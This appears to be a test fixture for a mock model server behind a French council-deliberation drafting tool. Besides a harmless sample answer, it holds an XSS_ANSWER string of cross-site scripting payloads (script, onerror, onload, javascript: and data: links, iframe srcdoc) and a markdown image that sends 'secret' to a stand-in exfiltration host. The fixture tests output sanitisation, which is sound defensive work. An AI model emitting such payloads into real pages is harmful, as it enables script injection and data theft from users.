@@ -1,0 +1,25 @@
+// What the faulty model server says when it answers.
+
+export const DEFAULT_ANSWER = `Bonjour, voici une première proposition pour votre délibération.
+
+1. **Visas** : rappelez le code général des collectivités territoriales.
+2. **Considérants** : exposez le besoin, le montant et l’échéance.
+3. **Décision** : une phrase par article, au présent.
+
+Il reste à préciser la date de la séance et le vote. Souhaitez-vous que je rédige l’article premier ?`
+
+export const XSS_ANSWER = `Avant <script>window.__xss=1</script> <img src=x onerror="window.__xss=2"> <svg onload=window.__xss=3>
+[lien](javascript:window.__xss=4) ![image](https://exfiltration.invalid/x.png?d=secret)
+<iframe srcdoc="<script>parent.__xss=5</script>"></iframe> [ref][r]
+
+[r]: data:text/html,<script>window.__xss=6</script>
+Après.`
+
+/** Words with the white space that follows them: what a model's tokens look like. */
+export const tokensOf = (text: string): string[] => text.match(/\S+\s*|\s+/g) ?? []
+
+/** The default answer, or `count` tokens made by repeating it. */
+export const answerTokens = (count?: number): string[] => {
+  const tokens = tokensOf(DEFAULT_ANSWER)
+  return count === undefined ? tokens : Array.from({ length: count }, (_, i) => tokens[i % tokens.length]!)
+}
